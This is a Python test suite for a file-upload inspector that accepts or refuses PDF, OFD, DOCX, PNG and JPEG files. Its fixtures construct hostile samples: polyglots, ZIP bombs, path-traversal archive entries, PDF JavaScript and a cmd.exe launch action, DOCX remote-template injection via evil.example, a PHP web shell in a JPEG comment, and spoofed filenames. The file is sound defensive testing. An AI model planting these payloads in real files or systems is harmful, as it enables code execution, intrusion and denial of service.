"""What a file is, by its content, and what is refused of files that could hurt who opens them. Each hostile one is built here."""

import io
import random
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest

from chassis.errors import Refused
from services.case import content
from tests.support.files import WORD, docx, jpeg, linked, ofd, pdf, png, stream, zipped

PDF_TYPE, OFD_TYPE, DOCX_TYPE = "application/pdf", "application/ofd", f"{WORD}document"
CATALOG = b"<</Type/Catalog>>"
MIB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0"


def faults(file: bytes, filename: str = "申请书.pdf") -> dict[str, str]:
    """Why it is refused, by field; nothing when it is taken."""
    try:
        content.inspect(file, filename)
    except Refused as refused:
        return {one.field: one.reason for one in refused.violations}
    return {}


def noise(length: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(length)


# -- what is taken ---------------------------------------------------------------------------------------------------------

GOOD = {
    "a PDF": (pdf(CATALOG), PDF_TYPE),
    "a PDF after a byte order mark": (b"\xef\xbb\xbf" + pdf(CATALOG), PDF_TYPE),
    "a PDF after empty lines": (b"\r\n\r\n" + pdf(CATALOG), PDF_TYPE),
    "a PDF padded to a block": (pdf(CATALOG) + bytes(4096), PDF_TYPE),
    "a PDF with object streams": (pdf(CATALOG, stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"5 0 <</Type/Page>>")), PDF_TYPE),
    "a PDF with a picture packed twice": (pdf(CATALOG, b"<</Filter[/FlateDecode/DCTDecode]/Length 5 0 R>>"), PDF_TYPE),
    "a PDF whose text speaks of scripts": (pdf(CATALOG, stream(b"/Filter/FlateDecode", b"(/JavaScript <script>) Tj")), PDF_TYPE),
    "a PDF that only links": (pdf(CATALOG, b"<</S/URI/URI(https://yiwang.example)>>"), PDF_TYPE),
    "a PDF with a font of a telling name": (pdf(CATALOG, b"<</BaseFont/LaunchPad/Name/JavaScriptSans>>"), PDF_TYPE),
    "a JPEG": (jpeg(), "image/jpeg"),
    "a JPEG with a film of the phone behind it": (jpeg() + b"\0\0\0\x18ftypmp42" + noise(9000), "image/jpeg"),
    "a JPEG with a second picture behind it": (jpeg() + jpeg(), "image/jpeg"),
    "a PNG": (png(), "image/png"),
    "a PNG with a little padding": (png() + bytes(16), "image/png"),
    "an OFD": (ofd(), OFD_TYPE),
    "an OFD written with backslashes": (zipped({"OFD.xml": "<OFD/>", "Doc_0\\Document.xml": "<Document/>"}), OFD_TYPE),
    "an OFD that is only stored": (zipped({"OFD.xml": "<OFD/>"}, zipfile.ZIP_STORED), OFD_TYPE),
    "a DOCX": (docx(), DOCX_TYPE),
    "a DOCX with a chart and its sheet": (docx({"word/embeddings/Sheet1.xlsx": zipped({"xl/workbook.xml": "<workbook/>"})}), DOCX_TYPE),
    "a DOCX with a formula": (docx({"word/embeddings/oleObject1.bin": OLE + "Equation Native".encode("utf-16-le")}), DOCX_TYPE),
    "a DOCX with a packed drawing": (docx({"word/media/image1.emz": zlib.compress(bytes(999), wbits=31)}), DOCX_TYPE),
    "a DOCX with a blank preview": (docx({"docProps/thumbnail.emf": bytes(400_000)}), DOCX_TYPE),
    "a DOCX that links": (docx(linked("hyperlink", "https://yiwang.example")), DOCX_TYPE),
    "a DOCX that notes its author's template": (docx(linked("attachedTemplate", "file:///C:\\Users\\wang\\templates\\a.dotx")), DOCX_TYPE),
    "a DOCX that notes a template beside it": (docx(linked("attachedTemplate", "Normal.dotm")), DOCX_TYPE),
    "a DOCX with padding": (docx() + b"\r\n", DOCX_TYPE),
}  # fmt: skip


@pytest.mark.parametrize("what", GOOD)
def test_what_real_tools_write_is_taken(what: str) -> None:
    file, kind = GOOD[what]
    assert content.inspect(file, "申请书（终稿）.v2.pdf") == kind


def test_a_document_written_to_a_pipe_is_taken() -> None:
    """Sizes stand behind the data then, and not before (LibreOffice, Java)."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.parts: list[bytes] = []

        def writable(self) -> bool:
            return True

        def write(self, part: bytes) -> int:  # type: ignore[override]
            self.parts.append(bytes(part))
            return len(part)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive, zipfile.ZipFile(io.BytesIO(docx())) as source:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    assert content.inspect(b"".join(pipe.parts), "a.docx") == DOCX_TYPE


# -- what is no such file, or not a whole one --------------------------------------------------------------------------------

TYPES = {
    "a text": b"hello, this is only text",
    "blanks": b" " * 5000,
    "a program": b"\x7fELF\x02\x01\x01" + bytes(60),
    "a page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "a drawing with scripts": b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
    "a ZIP of anything": zipped({"evil.exe": "MZ"}),
    "a sheet": zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}),
    "a template": docx(main=f"{WORD}template.main+xml"),
    "a ZIP that only speaks of OFD.xml": zipped({"a.txt": "OFD.xml word/document.xml"}),
    "a GIF": b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
}


def encrypted() -> bytes:
    file = bytearray(ofd())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        file[file.find(sign) + at] |= 1
    return bytes(file)


def lying(size: int) -> bytes:
    """The directory says another size of the first entry than it has."""
    file = bytearray(zipped({"OFD.xml": "<OFD/>" * 1000}))
    struct.pack_into("<I", file, file.find(b"PK\x01\x02") + 24, size)
    return bytes(file)


def replaced(file: bytes, old: bytes, new: bytes) -> bytes:
    assert old in file
    return file.replace(old, new)


BROKEN = {
    "a PDF cut off": pdf(CATALOG, bytes(3000))[:-20],
    "a PDF whose end is in its middle": pdf(CATALOG) + b"x" * 3000,
    "a PDF with object streams nobody can read": pdf(CATALOG, stream(b"/Type/ObjStm/Filter/LZWDecode", b"\x80\x0b", packed=False)),
    "an encrypted PDF with object streams": pdf(b"<</Encrypt 9 0 R>>", stream(b"/Type/ObjStm", noise(99), packed=False)),
    "an object stream cut off": pdf(CATALOG, replaced(stream(b"/Type/ObjStm", b"5 0 " + noise(900)), b"\nendstream", b"")[:200]),
    "an object stream of a filter within": pdf(CATALOG, stream(b"/Type/ObjStm", zlib.compress(b"5 0 <</S/JavaScript>>"))),
    "an object stream without data": pdf(b"<</Type/ObjStm>>"),
    "a PNG cut off": png()[:-6],
    "a PNG without pixels": png(0, 5),
    "a PNG of nothing": png()[:8],
    "a JPEG cut off": jpeg()[:-2],
    "a JPEG without a picture": b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9",
    "a JPEG without height": jpeg(5, 0),
    "a JPEG of a false length": b"\xff\xd8\xff\xe0\x00\x00" + jpeg(),
    "a ZIP without its directory": docx()[:-800],
    "a ZIP without its end": docx()[:-22],
    "an encrypted ZIP": encrypted(),
    "a ZIP whose content is not what it says": replaced(zipped({"OFD.xml": "<OFD/>"}, 0), b"<OFD/>", b"<ofd/>"),
    "a ZIP with less in it than it says": lying(6001),
    "a ZIP of a strange method": zipped({"OFD.xml": "<OFD/>"}, zipfile.ZIP_LZMA),
    "a ZIP with two names for an entry": ofd().replace(b"OFD.xml", b"OFD.xmk", 1),
    "a ZIP with an entry twice": replaced(zipped({"OFD.xml": "<OFD/>", "ofd.xmk": "<x/>"}), b"ofd.xmk", b"ofd.xml"),
    "a ZIP that climbs": ofd({"../../etc/cron.d/x": "x"}),
    "a ZIP with a path of its own": ofd({"C:/windows/x": "x"}),
    "a DOCX with entities": docx({"word/_rels/document.xml.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
    "a DOCX whose relations are no XML": docx({"word/_rels/document.xml.rels": "<a>"}),
}  # fmt: skip


@pytest.mark.parametrize("what", TYPES)
def test_another_format_is_refused(what: str) -> None:
    assert faults(TYPES[what]) == {"content": "ATTACHMENT_TYPE"}


@pytest.mark.parametrize("what", BROKEN)
def test_a_file_nobody_could_open_or_look_into_is_refused(what: str) -> None:
    assert faults(BROKEN[what]) == {"content": "ATTACHMENT_BROKEN"}


@pytest.mark.parametrize(
    "file", [pdf(CATALOG), docx(), ofd(), png(), jpeg()], ids=["pdf", "docx", "ofd", "png", "jpeg"]
)
def test_a_file_cut_off_anywhere_is_refused_and_never_a_fault_of_ours(file: bytes) -> None:
    for length in range(len(file) - 1):
        if file[length:].strip():  # a line break at the end is nothing lost
            assert faults(file[:length]), length


@pytest.mark.parametrize(
    "file", [pdf(CATALOG), docx(), ofd(), png(), jpeg()], ids=["pdf", "docx", "ofd", "png", "jpeg"]
)
def test_a_file_with_any_byte_changed_is_taken_or_refused_and_never_a_fault_of_ours(file: bytes) -> None:
    chosen = random.Random(7)
    for _ in range(400):
        changed = bytearray(file)
        changed[chosen.randrange(len(file))] = chosen.randrange(256)
        faults(bytes(changed))


def test_an_empty_file_and_one_too_large_are_refused() -> None:
    assert faults(b"") == {"content": "ATTACHMENT_EMPTY"}
    full = pdf(CATALOG) + bytes(content.MOST_BYTES - len(pdf(CATALOG)))
    assert faults(full) == {}
    assert faults(full + b"\0") == {"content": "ATTACHMENT_SIZE"}


# -- two formats in one ------------------------------------------------------------------------------------------------------

ARCHIVE = zipped({"a.exe": "MZ"})


def with_comment(file: bytes, comment: bytes) -> bytes:
    return file[:-2] + struct.pack("<H", len(comment)) + comment


POLYGLOTS = {
    "a PDF with a ZIP behind it": pdf(CATALOG) + ARCHIVE,
    "a PDF with a ZIP in it": pdf(CATALOG, stream(b"", ARCHIVE, packed=False)),
    "a PDF with a page behind it": pdf(CATALOG) + b"<script>alert(1)</script>",
    "a PDF behind something": b"GIF89a" + pdf(CATALOG),
    "a PDF behind many blanks": b" " * 100 + pdf(CATALOG),
    "a PDF with a RAR in it": pdf(CATALOG, b"Rar!\x1a\x07\x01\x00"),
    "a JPEG with a ZIP behind it": jpeg() + ARCHIVE,
    "a JPEG with a ZIP in its comment": jpeg(comment=ARCHIVE),
    "a JPEG with a page behind it": jpeg() + b"\n<html><body onload=x>",
    "a JPEG with a script in its comment": jpeg(comment=b"<?PHP system($_GET[0]);"),
    "a JPEG with a program behind it": jpeg() + b"MZ\x90\x00" + bytes(60),
    "a JPEG that is a PDF": jpeg(comment=pdf(CATALOG)),
    "a PNG with a ZIP behind it": png() + ARCHIVE,
    "a PNG with much behind it": png() + noise(2000),
    "a PNG with a program behind it": png() + b"\x7fELF",
    "an OFD that is a PDF": zipped({"a.pdf": pdf(CATALOG), "OFD.xml": "<OFD/>"}, zipfile.ZIP_STORED),
    "an OFD that is a DOCX": docx({"OFD.xml": "<OFD/>"}),
    "an OFD with another ZIP before it": ARCHIVE + ofd(),
    "an OFD with something behind it": ofd() + b"<script>",
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_two_formats_in_one_are_refused(what: str) -> None:
    assert faults(POLYGLOTS[what]) == {"content": "ATTACHMENT_POLYGLOT"}


# -- what unpacks to more than anybody has ---------------------------------------------------------------------------------------


def overlapping() -> bytes:
    """Two entries that share their data, as the densest bombs do."""
    file = bytearray(zipped({"OFD.xml": "<OFD/>", "b.xml": noise(500)}))
    second = file.find(b"PK\x01\x02", file.find(b"PK\x01\x02") + 4)
    struct.pack_into("<I", file, second + 42, 0)
    return bytes(file)


BOMBS: dict[str, Callable[[], bytes]] = {
    "a thousand to one": lambda: ofd({"Doc_0/a.xml": bytes(5 * MIB)}),
    "more than 100 MB": lambda: ofd({"a.bin": noise(MIB + MIB // 8), "b.bin": bytes(101 * MIB)}),
    "more in it than it says": lambda: lying(10),
    "entries that share their data": overlapping,
    "1,001 entries": lambda: ofd({f"Doc_0/{number}.xml": "" for number in range(1001)}),
    "an archive in an OFD": lambda: ofd({"Doc_0/Attachs/a.zip": ARCHIVE}),
    "an archive where none belongs": lambda: docx({"word/media/a.png": ARCHIVE}),
    "an archive in an archive": lambda: docx({"word/embeddings/a.xlsx": zipped({"xl/embeddings/b.docx": docx()})}),
    "a bomb in an embedded sheet": lambda: docx({"word/embeddings/a.xlsx": zipped({"a.xml": bytes(5 * MIB)})}),
    "a 7z in a DOCX": lambda: docx({"word/media/a.bin": b"7z\xbc\xaf\x27\x1c\x00\x04"}),
    "a PDF with a bomb for an object stream": lambda: pdf(CATALOG, stream(b"/Type/ObjStm", b"1 0 " + bytes(40 * MIB))),
    "a PNG of 101 megapixels": lambda: png(10_100, 10_000),
    "a JPEG of 4,294 megapixels": lambda: jpeg(65_535, 65_535),
}


@pytest.mark.parametrize("what", BOMBS)
def test_what_unpacks_to_far_more_is_refused(what: str) -> None:
    assert faults(BOMBS[what]()) == {"content": "ATTACHMENT_BOMB"}


def test_pictures_of_a_hundred_megapixels_are_taken() -> None:
    assert faults(png(10_000, 10_000)) == faults(jpeg(10_000, 10_000)) == {}


# -- what acts when it is opened -----------------------------------------------------------------------------------------------

PACKED = OLE + "\x01Ole10Native".encode("utf-16-le") + b"OLE Package\0Package\0"
ACTIVE = {
    "a PDF with JavaScript": pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
    "a PDF with JavaScript in other letters": pdf(b"<</OpenAction<</S/#4aava#53cript/JS(1)>>>>"),
    "a PDF with a rendition": pdf(b"<</A<</S/Rendition/JS(1)>>>>"),
    "a PDF that launches": pdf(b"<</OpenAction<</S /Launch /F(cmd.exe)>>>>"),
    "a PDF with a file in it": pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"),
    "a PDF with a form of scripts": pdf(b"<</AcroForm<</XFA 5 0 R>>>>"),
    "a PDF with JavaScript in an object stream": pdf(CATALOG, stream(b"/Type/ObjStm", b"5 0 <</S/JavaScript/JS(1)>>")),
    "the same, far behind": pdf(CATALOG, stream(b"/Type/ObjStm", b"5 0 " + noise(200_000) + b"<</S/JavaScript/JS(1)>>")),
    "the same, under a name in other letters": pdf(CATALOG, stream(b"/Type/Ob#6aStm", b"5 0 <</S/JavaScript/JS(1)>>")),
    "an object stream behind two filters": pdf(CATALOG, stream(b"/Type/ObjStm/Filter[/FlateDecode %\n/ASCIIHexDecode]", b"3 0 35 20")),
    "a DOCX with macros": docx({"word/vbaProject.bin": OLE}),
    "a DOCX with macros of another name": docx({"word/x.bin": OLE + "_VBA_PROJECT".encode("utf-16-le")}),
    "a DOCX that is a DOCM": docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a DOCX with a part of macros": docx(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    "a DOCX with macros in its sheet": docx({"word/embeddings/a.xlsm": zipped({"xl/vbaProject.bin": OLE})}),
    "a DOCX with a template of the net": docx(linked("attachedTemplate", "https://evil.example/a.dotm")),
    "a DOCX with a template of a share": docx(linked("attachedTemplate", "file://evil.example/share/a.dotm")),
    "a DOCX with a template of a share, otherwise": docx(linked("attachedTemplate", "\\\\evil.example\\a.dotm")),
    "a DOCX with a template of a share, escaped": docx(linked("attachedTemplate", "%5c%5cevil.example%5ca.dotm")),
    "a DOCX with an object of the net": docx(linked("oleObject", "mhtml:https://evil.example!x-usc:https://evil.example")),
    "a DOCX with a frame of the net": docx(linked("frame", "http://evil.example", mode="external")),
    "a DOCX with controls": docx({"word/activeX/activeX1.xml": "<x/>"}),
    "a DOCX with a file in it": docx({"word/embeddings/oleObject1.bin": PACKED}),
    "an OFD with a program": ofd({"Doc_0/Attachs/a.EXE": "MZ"}),
}  # fmt: skip


@pytest.mark.parametrize("what", ACTIVE)
def test_what_acts_when_it_is_opened_is_refused(what: str) -> None:
    assert faults(ACTIVE[what]) == {"content": "ATTACHMENT_ACTIVE"}


# -- names --------------------------------------------------------------------------------------------------------------------

NAMES = {
    *("../../etc/passwd", "..\\a.pdf", "a/b.pdf", "/a.pdf", "C:a.pdf", "..", ".", " ", "..."),
    *("a\0.pdf", "a\n.pdf", "a\x7f.pdf", "a\u2028.pdf", "申请\u202egpj.exe", "\u2066a.pdf", "a\u200f.pdf"),
    *("CON", "nul.pdf", "com1.pdf", "LPT9.tar.gz", "aux .pdf", "长" * 201),
}


@pytest.mark.parametrize("name", sorted(NAMES))
def test_a_name_that_is_none_is_refused_and_never_cut_to_its_last_part(name: str) -> None:
    assert faults(pdf(CATALOG), name) == {"filename": "FILENAME"}


@pytest.mark.parametrize(
    "name",
    [
        "申请书.pdf",
        "照片.exe",
        ".pdf",
        "console.pdf",
        "com10.pdf",
        "12:30 截图.png",
        "😀👨‍👩‍👧.png",
        "a..b.pdf",
        "长" * 200,
    ],
)
def test_other_names_are_taken(name: str) -> None:
    assert faults(pdf(CATALOG), name) == {}


def test_a_bad_name_and_a_bad_content_are_both_named() -> None:
    assert faults(b"text", "a/b") == {"filename": "FILENAME", "content": "ATTACHMENT_TYPE"}


# -- what a look costs ----------------------------------------------------------------------------------------------------------


def large() -> dict[str, bytes]:
    """Files of about ten megabytes: as they come, and as somebody would make them who wants the look to take long."""
    most = content.MOST_BYTES - 16_384
    tables = b"5 0 " + b"<</A 1/B[1 2 3]>>\n" * (30 * MIB // 18)
    return {
        "a scan": pdf(CATALOG, stream(b"/Filter/DCTDecode", noise(most), packed=False)),
        "many object streams": pdf(
            CATALOG, stream(b"/Type/ObjStm", tables), stream(b"", noise(most - MIB), packed=False)
        ),
        "a photo": jpeg() + noise(most),
        "a DOCX of photos": docx({f"word/media/{number}.jpg": noise(most // 10, number) for number in range(10)}),
        "only slashes": pdf(CATALOG, b"/" * most),
        "only names that nearly act": pdf(CATALOG, b"/JavaScrip" * (most // 10)),
        "only names of object streams": pdf(CATALOG, b"/ObjStm " * (most // 8)),
        "only fill bytes": b"\xff\xd8" + b"\xff" * most,
        "only segments": b"\xff\xd8" + b"\xff\xe0\0\2" * (most // 4),
        "only chunks": png()[:33] + bytes(most),
        "only directory": b"PK\x03\x04" + b"PK\x01\x02" * (most // 4) + b"PK\x05\x06" + bytes(18),
    }


def test_a_look_at_ten_megabytes_takes_little_time_and_memory() -> None:
    took = {}
    for what, file in large().items():
        assert len(file) <= content.MOST_BYTES, what
        best = 9.0
        for _ in range(2):  # the second time counts when something else ran beside the first
            began = time.process_time()
            faults(file)
            best = min(best, time.process_time() - began)
        took[what] = best
    assert {what: seconds for what, seconds in took.items() if seconds > 0.5} == {}


@pytest.mark.parametrize("what", ["a DOCX of photos", "many object streams", "a photo", "only directory"])
def test_a_look_holds_less_than_fifty_megabytes(what: str) -> None:
    file = large()[what]
    tracemalloc.start()
    try:
        faults(file)
        assert tracemalloc.get_traced_memory()[1] < 50 * MIB
    finally:
        tracemalloc.stop()
